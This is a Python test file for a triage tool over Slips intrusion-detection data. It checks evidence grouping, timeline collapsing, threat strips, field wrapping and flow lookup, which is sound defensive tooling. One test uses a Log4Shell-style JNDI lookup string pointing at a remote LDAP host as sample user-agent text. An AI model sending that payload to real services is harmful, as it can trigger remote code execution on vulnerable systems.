"""Triage on real Slips data: grouped evidence agrees with the export, timelines collapse, the
threat strip and detail fields, and Why finds the flows behind evidence in every generation."""

from __future__ import annotations

import json
from collections import Counter

import pytest

from kalipso import export
from kalipso.data import ConnectionSettings, open_slips
from kalipso.data.models import Alert, Evidence, TimelineEntry, TimeWindow
from kalipso.data.why import FLOWS_SOURCE, PORT_SOURCE, TIMELINE_SOURCE, TIMELINE_UNREADABLE_SOURCE, evidence_flows
from kalipso.text import format_ts
from kalipso.triage import (
    collapse_timeline,
    detail_fields,
    evidence_target,
    group_evidence,
    ip_sort_key,
    plural,
    threat_strip,
    worst_threat,
    wrap_fields,
)

from conftest import fixture_params, flows_db_of, load_keys_json, needs_fixture


def open_data(server, flows=None):
    return open_slips(ConnectionSettings(port=server.port, cache_url=f"redis://127.0.0.1:{server.port}/1"),
                      flows_db=flows)


# ------------------------------------------------------------------ grouped evidence


@pytest.mark.parametrize("dataset", fixture_params())
def test_grouped_counts_equal_the_exports_per_type_counts(redis_server, dataset):
    load_keys_json(redis_server, dataset)
    manifest = json.loads((dataset / "manifest.json").read_text())
    data = open_data(redis_server, flows_db_of(dataset))
    try:
        checked = 0
        for profile in manifest["profiles"]:
            for tw in profile["timewindows"]:
                if not tw["evidence"]:
                    continue
                detail = export.timewindow_detail(data, profile["ip"], tw["name"])
                summary = group_evidence(data.evidence(profile["ip"], tw["name"]),
                                         data.alerts(profile["ip"], tw["name"]))
                assert summary.total == tw["evidence"] == sum(g.count for g in summary.groups)
                assert summary.counts_by_type() == Counter(e["evidence_type"] for e in detail["evidence"])
                assert summary.alert_count == tw["alerts"]
                ranks = [(-["info", "low", "medium", "high", "critical"].index(g.threat_level), -g.count)
                         for g in summary.groups if g.threat_level]
                assert ranks == sorted(ranks)  # threat first, then count
                in_alert = {i for a in summary.alerts for i in a.evidence_ids}
                for g in summary.groups:
                    assert g.in_alert == any(e.id in in_alert for e in g.items)
                    assert len({(e.evidence_type, evidence_target(e)) for e in g.items}) == 1
                checked += 1
        assert checked == sum(1 for p in manifest["profiles"] for t in p["timewindows"] if t["evidence"])
    finally:
        data.close()


def test_current_slips_malicious_window_groups(redis_server):
    path = needs_fixture("slips-1.1.21/test15-malicious-zeek-dir")
    load_keys_json(redis_server, path)
    data = open_data(redis_server, flows_db_of(path))
    try:
        summary = group_evidence(data.evidence("10.0.2.15", "timewindow1"), data.alerts("10.0.2.15", "timewindow1"))
    finally:
        data.close()
    assert summary.total == 84 and len(summary.groups) < summary.total / 2
    top = summary.groups[0]
    assert (top.evidence_type, top.target, top.threat_level, top.count) == (
        "INCOMPATIBLE_CN", "216.58.201.78", "medium", 16)
    assert top.in_alert and "216.58.201.78" in top.description
    assert top.first <= top.last
    # alerts: three, first fired first, each expanding to the evidence it was raised on
    assert summary.alert_count == 3 and not summary.first_alert.estimated
    assert [a.fired_ts for a in summary.alerts] == sorted(a.fired_ts for a in summary.alerts)
    for a in summary.alerts:
        assert a.evidence and all(e.id in a.evidence_ids for e in a.evidence)


def test_classic_evidence_targets_come_from_the_attacker_or_the_description(redis_server):
    path = needs_fixture("slips-1.0.1/test9-mixed-zeek-dir-threshold0.01")
    load_keys_json(redis_server, path)
    data = open_data(redis_server)
    try:
        evidence = data.evidence("10.0.2.15", "timewindow1")
        summary = group_evidence(evidence, data.alerts("10.0.2.15", "timewindow1"))
    finally:
        data.close()
    targets = {(g.evidence_type, g.target): g.count for g in summary.groups}
    assert targets[("DifferentLocalnet", "255.255.255.255")] == 4  # attacker_direction dstip
    assert ("ConnectionToPrivateIP", "10.0.2.255") in targets  # from the description
    assert ("DNSWithoutConnection", "www.msn.com") in targets  # dstdomain
    assert summary.alert_count == 5 and all(a.estimated for a in summary.alerts)  # no SQLite: estimated
    assert sum(g.count for g in summary.groups) == len(evidence)


def _beacon(n: int) -> list[Evidence]:
    out = [Evidence(id=f"u{i}", evidence_type="UNKNOWN_PORT", threat_level="high", ts=100.0 + i,
                    description="Connection to unknown destination port 5888/TCP destination IP 66.63.168.35.",
                    attacker="192.168.1.107", victim="66.63.168.35", profile_ip="192.168.1.107")
           for i in range(n)]
    out += [Evidence(id=f"r{i}", evidence_type="MULTIPLE_RECONNECTION_ATTEMPTS", threat_level="medium", ts=50.0 + i,
                     description=f"Multiple reconnection attempts to 66.63.168.35 reconnections: {5 + i % 2}",
                     attacker="192.168.1.107", victim="66.63.168.35", profile_ip="192.168.1.107")
            for i in range(30)]
    out.append(Evidence(id="in", evidence_type="DIFFERENT_LOCALNET", threat_level="critical", ts=10.0,
                        attacker="192.168.1.107", victim="10.0.0.5", profile_ip="10.0.0.5"))  # the profile attacked
    return out


def test_a_beacon_folds_into_a_few_groups_worst_first():
    evidence = _beacon(719)
    alert = Alert(id="a1", profile_ip="192.168.1.107", timewindow="timewindow1", evidence_ids=("u3", "r2"),
                  time="1677024200.5")
    summary = group_evidence(evidence, [alert])
    assert [(g.evidence_type, g.target, g.count) for g in summary.groups] == [
        ("DIFFERENT_LOCALNET", "192.168.1.107", 1), ("UNKNOWN_PORT", "66.63.168.35", 719),
        ("MULTIPLE_RECONNECTION_ATTEMPTS", "66.63.168.35", 30)]
    beacon = summary.groups[1]
    assert beacon.in_alert and beacon.alert_ids == ("a1",) and not summary.groups[0].in_alert
    assert beacon.first_ts == 100.0 and beacon.last_ts == 818.0
    assert summary.groups[2].description.endswith("reconnections: 5")  # the most common, first on a tie
    assert summary.first_alert.fired_ts == 1677024200.5 and not summary.first_alert.estimated
    assert [e.id for e in summary.first_alert.evidence] == ["r2", "u3"]  # oldest first
    assert summary.first_alert.evidence_time == format_ts(103.0)  # traffic time, beside Slips' clock
    by_type = group_evidence(evidence, [alert], by_target=False)
    assert len(by_type.groups) == 3 and by_type.groups[0].targets == ("192.168.1.107",)
    assert worst_threat(evidence) == "critical" and worst_threat([]) is None


def test_an_alert_without_a_record_fires_at_its_newest_evidence():
    evidence = _beacon(3)
    summary = group_evidence(evidence, [Alert("a", "x", "tw", ("u0", "u2", "gone"))])
    entry = summary.alerts[0]
    assert entry.estimated and entry.fired_ts == 102.0 and entry.missing == 1
    assert "time of its newest evidence" in dict(detail_fields(entry))["fired"]


# ------------------------------------------------------------------ timeline


def _line(ts: float, **kw) -> TimelineEntry:
    base = dict(timestamp=f"2023/02/22 00:00:{int(ts):02d}.5", daddr="66.63.168.35", dport_proto="5888/TCP",
                state="Not Established", sent="0", recv="0", tot="0", duration=f"0.0{int(ts) % 9}")
    base.update(kw)
    return TimelineEntry(ts=ts, **base)


def test_consecutive_lines_that_differ_only_in_time_collapse():
    lines = [_line(t) for t in range(5)] + [_line(5, daddr="8.8.8.8")] + [_line(t) for t in range(6, 9)]
    lines.append(TimelineEntry(ts=9.0, malformed=True, raw="x"))
    lines.append(TimelineEntry(ts=10.0, malformed=True, raw="x"))
    runs = collapse_timeline(lines)
    assert [r.count for r in runs] == [5, 1, 3, 1, 1]
    assert runs[0].collapsed and runs[0].first == "2023/02/22 00:00:00" and runs[0].last == "2023/02/22 00:00:04"
    assert runs[0].first_ts == 0.0 and runs[0].last_ts == 4.0 and not runs[1].collapsed
    assert sum(r.count for r in runs) == len(lines)
    assert collapse_timeline([]) == []
    # Slips with timeline_human_timestamp off writes epoch seconds; a -inf score gives no time
    epoch = collapse_timeline([TimelineEntry(ts=None, timestamp="1677024003.5"), TimelineEntry(ts=None, daddr="x")])
    assert epoch[0].first == format_ts(1677024003.5) and epoch[1].first == "-" and epoch[1].first_ts is None


def test_a_real_timeline_collapses_and_keeps_every_line(redis_server):
    path = needs_fixture("slips-1.1.21/test9-mixed-zeek-dir")
    load_keys_json(redis_server, path)
    data = open_data(redis_server)
    try:
        page = data.timeline("10.0.2.15", "timewindow1", 0, 10000)
    finally:
        data.close()
    runs = collapse_timeline(page.items)
    assert sum(r.count for r in runs) == page.total == 555
    assert len(runs) < page.total
    for run in runs:
        assert all(e.daddr == run.entry.daddr and e.dport_proto == run.entry.dport_proto for e in run.entries)


# ------------------------------------------------------------------ strip, fields, helpers


def _tw(n: int, malicious: bool = False) -> TimeWindow:
    return TimeWindow("10.0.0.1", f"timewindow{n}", n, 3600.0 * n, 3600.0 * (n + 1), malicious=malicious)


def test_threat_strip_one_letter_per_window_alerts_in_upper_case():
    windows = [_tw(1), _tw(2), _tw(3, malicious=True), _tw(4), _tw(5, malicious=True)]
    marks = {"timewindow2": "info", "timewindow3": "high", "timewindow4": "medium"}
    assert threat_strip(windows, marks) == ".iHm!"
    assert threat_strip(["timewindow1", "timewindow2"], {"timewindow2": "CRITICAL"}, alerted={"timewindow1"}) == "!c"
    # 200 windows in 10 cells: the one alerted window is never lost
    many = [_tw(i) for i in range(200)]
    many[137] = _tw(137, malicious=True)
    strip = threat_strip(many, {"timewindow137": "medium", "timewindow3": "low"}, width=10)
    assert len(strip) == 10 and strip.count("M") == 1 and "l" in strip


def test_detail_fields_of_evidence_and_timeline_lines_wrap_without_losing_text():
    long = "Suspicious user-agent: ${jndi:ldap://xyz.xyz.com:39356/a} while connecting to " + "x" * 200
    e = Evidence(id="e1", evidence_type="SUSPICIOUS_USER_AGENT", description=long, threat_level="high",
                 confidence=0.8, timestamp="80.7", ts=80.7, attacker="10.0.2.15", category="Anomaly",
                 uids=("CQG0MwVzInjvGumd2",), profile_ip="10.0.2.15", extra=(("method", "HEURISTIC"),))
    fields = dict(detail_fields(e))
    assert fields["description"] == long and fields["threat level"] == "high" and fields["confidence"] == "0.8"
    assert fields["attacker"] == "10.0.2.15" and fields["category"] == "Anomaly"
    assert fields["flow uids"] == "CQG0MwVzInjvGumd2" and fields["method"] == "HEURISTIC" and fields["id"] == "e1"
    assert "victim" not in fields  # empty fields are left out
    wrapped = wrap_fields(detail_fields(e), 80)
    assert all(len(label) + len(text) <= 80 for label, text in wrapped)
    start = next(i for i, (label, _) in enumerate(wrapped) if label.startswith("description"))
    text = ""
    for label, part in wrapped[start:]:
        if label.strip() and label.strip() != "description":
            break
        text += part if not text or text.endswith("x") and part.startswith("x") else " " + part
    assert text.replace(" ", "") == long.replace(" ", "")

    entry = _line(3, info=(("SNI", "c.microsoft.com"),), critical_warning="Protocol not recognized")
    fields = dict(detail_fields(entry))
    assert fields["destination"] == "66.63.168.35" and fields["port/proto"] == "5888/TCP"
    assert fields["SNI"] == "c.microsoft.com" and fields["critical warning"] == "Protocol not recognized"
    assert fields["time"] == "2023/02/22 00:00:03.5"
    assert dict(detail_fields(TimelineEntry(ts=1.0, malformed=True, raw="{bad")))["raw value"] == "{bad"


def test_ip_sort_key_and_plural():
    ips = ["10.0.2.255", "::1", "104.127.60.107", "not-an-ip", "10.0.2.2", "fe80::1%eth0", "9.9.9.9"]
    assert sorted(ips, key=ip_sort_key) == ["9.9.9.9", "10.0.2.2", "10.0.2.255", "104.127.60.107",
                                            "::1", "fe80::1%eth0", "not-an-ip"]
    assert plural(1, "row") == "1 row" and plural(2, "row") == "2 rows" and plural(1200, "alert") == "1,200 alerts"
    assert plural(1, "evidence", "evidence") == "1 evidence"


# ------------------------------------------------------------------ why


def test_why_current_slips_flows_from_sqlite_then_evidence_uids_then_timeline(redis_server):
    path = needs_fixture("slips-1.1.21/test15-malicious-zeek-dir")
    load_keys_json(redis_server, path)
    data = open_data(redis_server, flows_db_of(path))
    try:
        evidence = data.evidence("10.0.2.15", "timewindow1")
        results = [evidence_flows(data, "10.0.2.15", "timewindow1", e) for e in evidence]
        assert all(r.kind == "flows" and r.source == FLOWS_SOURCE for r in results)
        assert all(r.uids_from == "flows_causing_evidence" and r.flows for r in results)
        ja3 = next(r for e, r in zip(evidence, results, strict=True) if e.evidence_type == "MALICIOUS_JA3")
        assert ja3.flows[0].kind == "ssl" and ja3.flows[0].uid in ja3.uids
        assert ("uid", ja3.flows[0].uid) in detail_fields(ja3.flows[0])
        # a saved file: flows_causing_evidence expired (600 s TTL); the evidence JSON keeps the uids
        redis_server.client(0).delete("flows_causing_evidence")
        again = evidence_flows(data, "10.0.2.15", "timewindow1", evidence[0])
        assert again.kind == "flows" and again.uids_from == "evidence" and again.flows
    finally:
        data.close()
    # no flows file: the timeline lines to the same target, and the screen is told why
    data = open_data(redis_server)
    try:
        e = next(e for e in evidence if evidence_target(e))
        r = evidence_flows(data, "10.0.2.15", "timewindow1", e)
        assert r.kind == "timeline" and r.source == TIMELINE_UNREADABLE_SOURCE and "flows.sqlite" in r.note
        assert all(evidence_target(e) in (x.daddr, x.saddr) for x in r.timeline)
    finally:
        data.close()


def test_why_without_flow_ids_shows_timeline_lines_to_the_target_or_port(redis_server):
    path = needs_fixture("slips-1.1.21/port-scans-horizontal")
    load_keys_json(redis_server, path)
    data = open_data(redis_server, flows_db_of(path))
    try:
        evidence = data.evidence("10.0.2.112", "timewindow1")
        scan = next(e for e in evidence if not e.uids)
        r = evidence_flows(data, "10.0.2.112", "timewindow1", scan)
        assert r.kind == "timeline" and r.source == PORT_SOURCE and r.timeline
        assert all(x.dport_proto.upper() == "80/TCP" for x in r.timeline)
        # an evidence whose uid is unknown and whose target is known
        other = next(e for e in evidence if evidence_target(e) and e.uids)
        stripped = Evidence(**{**other.__dict__, "uids": (), "id": "not-in-flows-causing-evidence"})
        r = evidence_flows(data, "10.0.2.112", "timewindow1", stripped)
        assert r.kind == "timeline" and r.source == TIMELINE_SOURCE and r.timeline
        assert all(evidence_target(other) in (x.daddr, x.saddr) for x in r.timeline)
        assert [x.ts for x in r.timeline] == sorted(x.ts for x in r.timeline)
    finally:
        data.close()


def test_why_classic_slips_reads_the_flows_kept_in_redis(redis_server):
    path = needs_fixture("slips-1.0.1/test9-mixed-zeek-dir-threshold0.01")
    load_keys_json(redis_server, path)
    data = open_data(redis_server)
    try:
        evidence = data.evidence("10.0.2.15", "timewindow1")
        results = [evidence_flows(data, "10.0.2.15", "timewindow1", e) for e in evidence]
    finally:
        data.close()
    assert Counter(r.kind for r in results)["flows"] == len(evidence)
    conn = next(r for r in results if r.flows[0].kind == "conn")
    assert "->" in conn.flows[0].summary and all(r.uids_from == "evidence" for r in results)
